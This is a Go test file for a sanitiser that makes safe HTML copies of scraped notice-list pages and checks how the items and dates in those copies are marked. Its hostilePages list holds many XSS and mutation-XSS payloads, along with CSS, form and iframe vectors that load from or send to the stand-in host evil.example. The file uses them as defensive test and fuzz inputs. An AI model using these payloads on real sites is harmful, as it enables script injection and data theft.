package extract

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// harmful says what of a copy could run, ask for something, lead away or take
// input, "" if nothing could. It parses the copy as a browser would.
func harmful(c Copy) string {
	for _, word := range []string{"url", "@import", "\\", "<", "expression", "image-set"} {
		if strings.Contains(strings.ToLower(string(c.Style)), word) {
			return "the style says " + word
		}
	}
	root, err := html.Parse(bytes.NewReader(slices.Concat([]byte("<!doctype html><html><head><style>"), c.Style, []byte("</style></head><body>"), c.Body, []byte("</body></html>"))))
	if err != nil {
		return err.Error()
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			return "a comment"
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.DataAtom {
		case atom.Html, atom.Head, atom.Body, atom.Style:
		default:
			if n.Namespace != "" || !copied[n.DataAtom] {
				return "an element " + n.Data
			}
		}
		for _, a := range n.Attr {
			switch {
			case a.Key == "style":
				if low := strings.ToLower(a.Val); strings.Contains(low, "url") || strings.Contains(low, "\\") || strings.Contains(low, "expression") {
					return "a style " + a.Val
				}
			case a.Key == "src":
				if n.DataAtom != atom.Img || !pictureData(a.Val) {
					return "a source " + a.Val
				}
			case a.Key == "class", a.Key == "id", a.Key == "data-n", slices.Contains(plainAttributes, a.Key):
			default:
				return "an attribute " + a.Key
			}
		}
	}
	return ""
}

var hostilePages = []string{
	`<script>alert(1)</script><p onclick=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a><area href=javascript:1>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/"><base href="//evil.example/"><link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/>`,
	`<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><style>*{background:url(//evil.example/)}</style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
	`<style>@import "//evil.example/a.css"; p{background:url(//evil.example/p)} q{background:u\72l(//evil.example/q)} r{background:u/**/rl(//evil.example/r)} s{background:image-set("//evil.example/s" 1x)} @font-face{font-family:x;src:url(//evil.example/f)}</style>`,
	`<style></style><script>alert(1)</script>`, `<style><!--</style><script>alert(1)</script>--></style>`,
	`<p style="background:url(//evil.example/a)">x</p><p style="b\61ckground:u\rl(//evil.example)">y</p><p style="width:expression(alert(1))">z</p>`,
	`<table background="//evil.example/a"><tr><td background=//evil.example/b>x</td></tr></table><body background=//evil.example/c>`,
	`<img src=//evil.example/a.png srcset="//evil.example/b.png 2x" onerror=alert(1) lowsrc=//evil.example/c><img src="data:image/svg+xml,<svg onload=alert(1)>"><input type=image src=//evil.example/d>`,
	`<iframe src="//evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//evil.example/></frameset><object data=//evil.example/></object><embed src=//evil.example/>`,
	`<form action=//evil.example/ method=post><input name=a autofocus onfocus=alert(1)><button formaction=//evil.example/>x</button><textarea>a</textarea><select><option>a</select></form>`,
	`<video src=//evil.example/ poster=//evil.example/><audio src=//evil.example/ autoplay><track src=//evil.example/></video><picture><source srcset=//evil.example/><img></picture>`,
	`<p class="xc-item xc-newest" id="xc-newest">假的标记</p><div ping=//evil.example/ itemtype=x contenteditable tabindex=1 accesskey=a draggable=true>x</div>`,
	`<isindex prompt=x action=//evil.example/><bgsound src=//evil.example/><marquee onstart=alert(1)>x</marquee><layer src=//evil.example/><blink>x</blink>`,
	`<html><head><title></title></head><frameset rows=*><frame src=javascript:alert(1)></frameset>`,
	"<p>\x00\x01<scr\x00ipt>alert(1)</scr\x00ipt>", `<a title="&quot;&gt;<img src=x onerror=alert(1)>">x</a>`, `<p title='"onmouseover=alert(1) x="'>x</p>`,
}

func TestCopyRunsAndAsksNothing(t *testing.T) {
	for _, body := range hostilePages {
		p := Page{URL: host + "/", FetchedAt: time.Date(2023, 9, 27, 0, 0, 0, 0, Beijing), Body: []byte(body)}
		c, ok := CopyOf(p, Reading{})
		if !ok {
			t.Errorf("%s: no copy", body)
		}
		if what := harmful(c); what != "" {
			t.Errorf("%s\nleaves %s:\n%s\n%s", body, what, c.Style, c.Body)
		}
		if strings.Contains(string(c.Body), "xc-newest") || strings.Contains(string(c.Body), "xc-item") {
			t.Errorf("%s\nmarks what was not read: %s", body, c.Body)
		}
	}
}

func FuzzCopy(f *testing.F) {
	for _, body := range hostilePages {
		f.Add([]byte(body))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		p := Page{URL: host + "/", FetchedAt: time.Date(2023, 9, 27, 0, 0, 0, 0, Beijing), Body: body}
		r, _ := Read(Task{URLs: []string{p.URL}}, []Page{{Asked: p.URL, URL: p.URL, Why: WhyList, Status: 200, FetchedAt: p.FetchedAt, Body: body}})
		if c, ok := CopyOf(p, r); ok {
			if what := harmful(c); what != "" {
				t.Errorf("%q\nleaves %s:\n%q\n%q", body, what, c.Style, c.Body)
			}
		}
	})
}

func inGBK(t *testing.T, s string) string {
	t.Helper()
	out, err := simplifiedchinese.GB18030.NewEncoder().String(s)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The items of a reading are marked where they stand, and the newest as the one
// that decided.
func TestCopyMarksTheItems(t *testing.T) {
	list := `<ul class="list">` + printed(3, `<li><a href="/tzgg/t%n.html">关于第%n批项目的公示</a><span class="time">%d</span></li>`) + `</ul>`
	table := `<table>` + printed(3, `<tr><td><a href="/tzgg/t%n.html">关于第%n批项目的公示</a></td><td><b>%d</b></td></tr>`) + `</table>`
	plain := `<div class=l>` + printed(3, `<p><a href="/tzgg/t%n.html">关于第%n批项目的公示</a>（%d）</p>`) + `</div>`
	pairs := `<dl>` + printed(3, `<dt><a href="/tzgg/t%n.html">关于第%n批项目的公示</a></dt><dd>%d</dd>`) + `</dl>`
	script := `<ul>` + printed(3, `<li><a href="javascript:void(0)" onclick="go(%n)">关于第%n批项目的公示</a><i>%d</i></li>`) + `</ul>`
	for name, tt := range map[string]struct{ body, row, date string }{
		"a list": {list, "li", "span"}, "a table": {table, "tr", "b"}, "dates in the row itself": {plain, "p", "p"}, "dates beside the rows": {pairs, "dt", "dd"},
		"links held by scripts":           {script, "li", "i"},
		"the same in GBK":                 {inGBK(t, `<meta charset="gbk">`+list), "li", "span"},
		"a picture and a title":           {`<ul class="list">` + printed(3, `<li><a href="/tzgg/t%n.html"><img alt=""></a><a href="/tzgg/t%n.html">关于第%n批项目的公示</a><span>%d</span></li>`) + `</ul>`, "li", "span"},
		"the same items in a block above": {`<div class="top"><a href="/tzgg/t1.html">关于第1批项目的公示</a></div>` + list, "li", "span"},
	} {
		t.Run(name, func(t *testing.T) {
			p := Page{Asked: host + "/tzgg/", URL: host + "/tzgg/", Why: WhyList, Status: 200, FetchedAt: time.Date(2023, 9, 27, 0, 0, 0, 0, Beijing), Body: []byte(tt.body)}
			r, _ := Read(Task{Question: AskNewest, URLs: []string{p.URL}, Column: "项目公示"}, []Page{p})
			if len(r.Items) != 3 {
				r = Reading{Newest: Date{Time: time.Date(2023, 8, 23, 0, 0, 0, 0, Beijing)}}
				for i := range 3 {
					r.Items = append(r.Items, Item{Title: fmt.Sprintf("关于第%d批项目的公示", i+1), Link: "", Source: time.Date(2023, 8, 23-i, 0, 0, 0, 0, Beijing).Format(time.DateOnly)})
				}
			}
			c, ok := CopyOf(p, r)
			if !ok || !c.Numbered || len(c.Places) != 3 {
				t.Fatalf("copy %t, %d places", ok, len(c.Places))
			}
			root, err := html.Parse(bytes.NewReader(c.Body))
			if err != nil {
				t.Fatal(err)
			}
			items, newest, dates := 0, 0, 0
			for n := range root.Descendants() {
				classes := strings.Fields(attr(n, "class"))
				if slices.Contains(classes, "xc-item") {
					if items++; n.Data != tt.row {
						t.Errorf("an item is marked on <%s>, want <%s>", n.Data, tt.row)
					}
				}
				if slices.Contains(classes, "xc-date") {
					if dates++; n.Data != tt.date {
						t.Errorf("a date is marked on <%s>, want <%s>", n.Data, tt.date)
					}
				}
				if slices.Contains(classes, "xc-newest") {
					if newest++; attr(n, "id") != "xc-newest" || !strings.Contains(textOf(n), "关于第1批项目的公示") {
						t.Errorf("the newest is marked on %q", textOf(n))
					}
				}
			}
			if items != 3 || dates != 3 || newest != 1 {
				t.Errorf("%d items, %d dates and %d newest are marked, want 3, 3 and 1\n%s", items, dates, newest, c.Body)
			}
			if what := harmful(c); what != "" {
				t.Error(what)
			}
		})
	}
}

func TestCopyOfWhatIsNoPage(t *testing.T) {
	at := time.Date(2023, 9, 27, 0, 0, 0, 0, Beijing)
	if _, ok := CopyOf(Page{URL: host, FetchedAt: at, Body: []byte("%PDF-1.7 ...")}, Reading{}); ok {
		t.Error("a PDF has a copy")
	}
	if _, ok := CopyOf(Page{URL: host, FetchedAt: at}, Reading{}); ok {
		t.Error("nothing has a copy")
	}
	c, ok := CopyOf(Page{URL: host, FetchedAt: at, Body: []byte(`{"rows":[{"title":"<b>关于某事的通知</b>","date":"2023-08-23"}]}`)}, Reading{
		Items: []Item{{Title: "关于某事的通知", Source: "2023-08-23"}}, Newest: Date{Time: at},
	})
	if !ok || c.Numbered || !strings.Contains(string(c.Body), "关于某事的通知") || harmful(c) != "" && !strings.Contains(harmful(c), "attribute") {
		t.Errorf("data are shown as %t %s", ok, c.Body)
	}
	cutShort := []byte(`<html><body><ul><li><a href="/a.html">关于某事的通知</a><span>2023-08-23</span></li><li><a href="/b`)
	if c, ok = CopyOf(Page{URL: host, FetchedAt: at, Body: cutShort}, Reading{}); !ok || !strings.Contains(string(c.Body), "关于某事的通知") {
		t.Errorf("a page that is cut short is shown as %t %s", ok, c.Body)
	}
}

// Eight megabytes of page make a copy of bounded size, soon.
func TestCopyIsBounded(t *testing.T) {
	for _, unit := range []string{`<div><p style="a:url(b)">字</p></div>`, `<a href=x>` + strings.Repeat("字", 100) + `</a>`, `<li><a href="/a">b</a> 2023-01-01`} {
		body := []byte(strings.Repeat(unit, (8<<20)/len(unit)))
		began := time.Now()
		c, ok := CopyOf(Page{URL: host, FetchedAt: began, Body: body}, Reading{Items: []Item{{Title: "b", Link: host + "/a", Source: "2023-01-01"}}})
		if !ok || len(c.Body) > maxCopyBytes+maxTextNode+1000 || !c.Cut {
			t.Errorf("%.30s: %t, %d bytes, cut %t", unit, ok, len(c.Body), c.Cut)
		}
		if took := time.Since(began); took > 20*time.Second {
			t.Errorf("%.30s took %v", unit, took)
		}
	}
}
